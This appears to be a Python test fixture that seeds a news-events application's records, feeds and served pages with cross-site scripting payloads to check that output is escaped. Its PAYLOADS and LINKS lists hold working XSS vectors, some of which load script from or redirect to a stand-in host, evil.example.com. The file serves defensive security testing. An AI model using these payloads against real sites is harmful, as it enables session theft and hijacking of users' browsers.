"""A record in which every text that came from outside tries to run in the reader's browser."""

from __future__ import annotations

import html
import itertools
from collections.abc import Iterator
from typing import Any

from events import curation, intake
from events.choices import FeedState, ItemState, NoticeKind
from events.feeds import polling
from events.models.access import User
from events.models.organizations import OrganizationName
from events.models.people import ExecutiveName
from events.models.sources import Document, Feed, FeedItem, Notice, Story
from events.proposals.submitting import submit
from events.record import publishing
from tests import scenes
from tests.feeds.servers import Site

PAYLOADS = (
    "<script>hostile(1)</script>",
    "<ScRiPt src=//evil.example.com/2></sCrIpT>",
    "</script><script>hostile(3)</script>",
    "<img src=x onerror=hostile(4)>",
    '"><img src=x onerror=hostile(5)>',
    "' onfocus=hostile(6) autofocus x='",
    '" onpointerenter=hostile(7) x="',
    "<svg onload=hostile(8)>",
    "<svg><animate onbegin=hostile(9) attributeName=x dur=1s>",
    "</textarea><script>hostile(10)</script>",
    "</title><svg/onload=hostile(11)>",
    "--><img src=x onerror=hostile(12)>",
    "<iframe srcdoc='<script>parent.hostile(13)</script>'></iframe>",
    "<details open ontoggle=hostile(14)>x</details>",
    "<a href=javascript:hostile(15)>read on</a>",
    "<form action=//evil.example.com><button>Sign in</button></form>",
    "<style>@import'//evil.example.com/17'</style>",
    "<base href=//evil.example.com/>",
    "<meta http-equiv=refresh content=0;url=//evil.example.com>",
    "{{ constructor.constructor('hostile(20)')() }}",
    "${hostile(21)}",
    "\u003cimg src=x onerror=hostile(22)\u003e",
    "&lt;img src=x onerror=hostile(23)&gt;",
    "]]><script>hostile(25)</script>",
    "<div hx-get=//evil.example.com hx-trigger=load hx-on::load=hostile(26)>x</div>",
)
"""Ways into HTML text, attributes, script, style, CDATA, templates and htmx; each calls `hostile` or asks another host."""
LINKS = (
    "javascript:hostile(31)",
    "JaVaScRiPt:hostile(32)//https://news.example.com",
    "data:text/html,<script>hostile(33)</script>",
    'https://news.example.com/"onmouseover="hostile(34)',
    "https://news.example.com/<svg onload=hostile(35)>",
)


class Poison:
    """Texts of a given length, each full of payloads; the next one begins with another payload."""

    def __init__(self) -> None:
        self._next = itertools.cycle(PAYLOADS)

    def __call__(self, longest: int, start: str = "") -> str:
        """`start`, then as many payloads as fit into `longest` characters, at least one."""
        text = f"{start} {next(self._next)}".strip()
        while len(longer := f"{text} {next(self._next)}") <= longest:
            text = longer
        if len(text) > longest:
            raise ValueError(f"no payload fits into {longest} characters")
        return text


def rows(poison: Poison) -> User:
    """Fills what the pages show with payloads, past every check on the way in; gives a user who sees all pages."""
    boss = User.objects.create_superuser(
        "boss", password="x", first_name=poison(150), last_name=poison(150), email="boss@example.org"
    )
    parent = scenes.company(poison(200, "Northlake"))
    unit = scenes.unit(poison(200, "Cloud"), parent)
    OrganizationName.objects.create(organization=unit, name=poison(200), type="native", language="zh-Hans")
    scenes.ladder(parent)
    person = scenes.executive(poison(200, "Ilse"))
    ExecutiveName.objects.create(executive=person, name=poison(200), type="native", language="zh-Hans")
    source = scenes.document(
        scenes.DEMOTION_TEXT + " " + poison(1500), title=poison(300), authors=[poison(150)],
        story=Story.objects.create(title=poison(300)),
    )  # fmt: skip
    other = scenes.document(poison(3000, "A rumour."), title=poison(300), url=LINKS[0], story=source.story)
    demotion = publishing.publish(
        scenes.demotion(person, unit, source, grounds=(poison(200),)), boss, scenes.curator(poison(120))
    ).event
    publishing.revise(
        demotion.pk, scenes.demotion(person, unit, source, end="21B", levels=4), boss, scenes.curator(),
        reason=poison(400),
    )  # fmt: skip
    gone = publishing.publish(
        scenes.appointment(person, unit, other, day="2024-05-01", title=poison(150)), boss
    ).event
    publishing.retract(gone.pk, boss, reason=poison(400))
    claim = scenes.claim(source.text)
    claim["subject"] |= {"name": poison(200), "title": poison(150), "organization": poison(200)}
    claim["grounds"] = [poison(200), poison(200)]
    for content in (claim, scenes.claim(source.text)):
        scenes.candidate(source, content)
    refused = scenes.candidate(source, scenes.claim(source.text) | {"case": poison(80)})
    curation.reject(refused.pk, boss, poison(400), refused.version)
    submit(demotion.pk, kind="correction", text=poison(1500), name=poison(150), contact="reader@example.org")
    feeds(poison)
    return boss


def feeds(poison: Poison) -> None:
    """Feeds whose titles, addresses, errors and entries are poisoned."""
    for link in LINKS:
        feed = Feed.objects.create(
            url=link, title=poison(250), state=FeedState.FAILING.value, error=poison(500), failures=3
        )
        Notice.objects.create(feed=feed, kind=NoticeKind.FAILING.value, text=poison(500))
        FeedItem.objects.create(
            feed=feed, guid=f"{feed.pk:064}", url=link, title=poison(300), content=poison(900),
            state=ItemState.FAILED.value, error=poison(400),
        )  # fmt: skip


def serve(site: Site, poison: Poison) -> None:
    """Puts a hostile feed and its article on the site."""
    items = "".join(_items(site, poison))
    feed = f"<rss version='2.0'><channel><title>{html.escape(poison(200))}</title>{items}</channel></rss>"
    site.serve("/feed", feed.encode())
    body = " ".join(f"<p>{payload} {html.escape(payload)}</p>" for payload in PAYLOADS)
    page = (
        f"<html><head><title>{html.escape(poison(200))}</title></head><body><article><h1>Penalties</h1>"
        f"<p>{html.escape(scenes.DEMOTION_TEXT)}</p>"
        f"<p>Northlake Devices appointed Tom {html.escape(poison(90))} as chief executive on May 2, 2025.</p>"
        f"{body}</article></body></html>"
    )
    site.serve("/story", page.encode(), content_type="text/html")


def taken_in(site: Site) -> Document:
    """The article of the site's feed, taken in by polling, fetching and extraction as any other is."""
    row = Feed.objects.create(url=site.url("/feed"), title="")
    polling.poll_feed(row.pk)
    (item,) = FeedItem.objects.filter(feed=row, url=site.url("/story"))
    document = polling.fetch_item(item.pk)
    if document is None:
        raise AssertionError(FeedItem.objects.get(pk=item.pk).error)
    intake.extract_document(document.pk)
    return document


def _items(site: Site, poison: Poison) -> Iterator[str]:
    yield _item(site.url("/story"), poison)
    for link in LINKS:
        yield _item(link, poison)


def _item(link: str, poison: Poison) -> str:
    fields: dict[str, Any] = {
        "title": html.escape(poison(200)),
        "link": html.escape(link),
        "guid": html.escape(link),
        "author": html.escape(poison(120)),
        "description": f"<![CDATA[{poison(600).replace(']]>', '')}]]>",
    }
    return "<item>" + "".join(f"<{name}>{value}</{name}>" for name, value in fields.items()) + "</item>"
